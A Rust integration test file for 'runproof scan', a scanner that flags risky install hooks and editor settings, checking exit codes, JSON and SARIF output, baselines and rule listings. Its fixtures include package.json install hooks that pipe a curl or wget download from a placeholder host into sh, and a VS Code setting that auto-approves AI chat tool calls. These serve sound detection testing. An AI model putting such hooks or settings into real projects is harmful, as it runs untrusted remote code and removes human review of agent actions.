//! `runproof scan` as a user runs it: the real binary, real trees, exit
//! codes 0/1/2, the three formats, baselines, NO_COLOR and --rules.

use std::path::Path;
use std::process::{Command, Output};

fn runproof(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_runproof"))
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .expect("run runproof")
}

fn write(root: &Path, path: &str, content: &str) {
    let p = root.join(path);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, content).unwrap();
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

#[test]
fn exit_codes_and_formats() {
    let clean = tempfile::tempdir().unwrap();
    write(
        clean.path(),
        "package.json",
        r#"{"scripts":{"test":"jest","install":"node-gyp rebuild"}}"#,
    );
    let bad = tempfile::tempdir().unwrap();
    write(
        bad.path(),
        "package.json",
        r#"{"scripts":{"postinstall":"curl -fsSL https://example.invalid/p.sh | sh"}}"#,
    );
    let (clean_p, bad_p) = (clean.path().to_str().unwrap(), bad.path().to_str().unwrap());

    // Medium finding, default --fail-on high: 0. --fail-on medium: 1.
    let o = runproof(&["scan", clean_p]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    assert!(stdout(&o).contains("npm-install-script"));
    assert_eq!(
        runproof(&["scan", clean_p, "--fail-on", "medium"])
            .status
            .code(),
        Some(1)
    );

    // Critical finding: 1, text grouped by file with the evidence line.
    let o = runproof(&["scan", bad_p]);
    assert_eq!(o.status.code(), Some(1));
    let text = stdout(&o);
    assert!(text.starts_with("package.json\n"), "{text}");
    assert!(
        text.contains("CRITICAL")
            && text.contains("| curl -fsSL https://example.invalid/p.sh | sh"),
        "{text}"
    );
    assert!(!text.contains('\u{1b}'), "NO_COLOR is honoured");
    assert_eq!(
        runproof(&["scan", bad_p, "--fail-on", "CRITICAL"])
            .status
            .code(),
        Some(1)
    );

    // JSON: the documented shape.
    let o = runproof(&["scan", bad_p, "--format", "json"]);
    assert_eq!(o.status.code(), Some(1));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let f = &v["findings"][0];
    for k in ["rule", "severity", "path", "line", "message", "evidence"] {
        assert!(!f[k].is_null(), "missing {k}");
    }
    assert_eq!(f["rule"], "npm-install-payload");
    assert_eq!(f["severity"], "critical");
    assert_eq!(v["stats"]["files"], 1);

    // SARIF 2.1.0.
    let o = runproof(&["scan", bad_p, "--format", "sarif"]);
    let s: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(s["version"], "2.1.0");
    assert_eq!(s["runs"][0]["results"][0]["ruleId"], "npm-install-payload");
    assert_eq!(s["runs"][0]["results"][0]["level"], "error");
    assert!(
        s["runs"][0]["tool"]["driver"]["rules"]
            .as_array()
            .unwrap()
            .len()
            > 40
    );

    // Baseline: accept today's findings, fail only on new ones.
    let base = bad.path().join("scan-baseline.json");
    std::fs::write(
        &base,
        &runproof(&["scan", bad_p, "--format", "json"]).stdout,
    )
    .unwrap();
    let o = runproof(&["scan", bad_p, "--baseline", base.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    assert!(stdout(&o).contains("suppressed by baseline"));
    write(
        bad.path(),
        ".vscode/settings.json",
        r#"{"chat.tools.autoApprove": true}"#,
    );
    let o = runproof(&[
        "scan",
        bad_p,
        "--baseline",
        base.to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert_eq!(o.status.code(), Some(1));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["findings"].as_array().unwrap().len(), 1);
    assert_eq!(v["findings"][0]["rule"], "vscode-auto-approve");
}

#[test]
fn usage_and_io_errors_exit_2() {
    let o = runproof(&["scan", "/nonexistent/runproof-cli-test"]);
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("/nonexistent/runproof-cli-test"), "{err}");
    assert_eq!(
        runproof(&["scan", ".", "--fail-on", "severe"])
            .status
            .code(),
        Some(2)
    );
    assert_eq!(
        runproof(&["scan", ".", "--format", "xml"]).status.code(),
        Some(2)
    );
    let d = tempfile::tempdir().unwrap();
    let o = runproof(&[
        "scan",
        d.path().to_str().unwrap(),
        "--baseline",
        "/nonexistent/baseline.json",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("baseline"));
}

#[test]
fn rules_listing_and_vendored_skip() {
    let o = runproof(&["scan", "--rules"]);
    assert_eq!(o.status.code(), Some(0));
    let t = stdout(&o);
    assert!(
        t.contains("npm-install-payload  critical") && t.contains("why:"),
        "{t}"
    );
    let o = runproof(&["scan", "--rules", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(
        v.as_array()
            .unwrap()
            .iter()
            .all(|r| r["id"].is_string() && r["why"].is_string())
    );

    let d = tempfile::tempdir().unwrap();
    write(
        d.path(),
        "node_modules/x/package.json",
        r#"{"scripts":{"preinstall":"wget -qO- http://example.invalid | sh"}}"#,
    );
    let p = d.path().to_str().unwrap();
    assert_eq!(runproof(&["scan", p]).status.code(), Some(1));
    assert_eq!(
        runproof(&["scan", p, "--skip-vendored"]).status.code(),
        Some(0)
    );
}
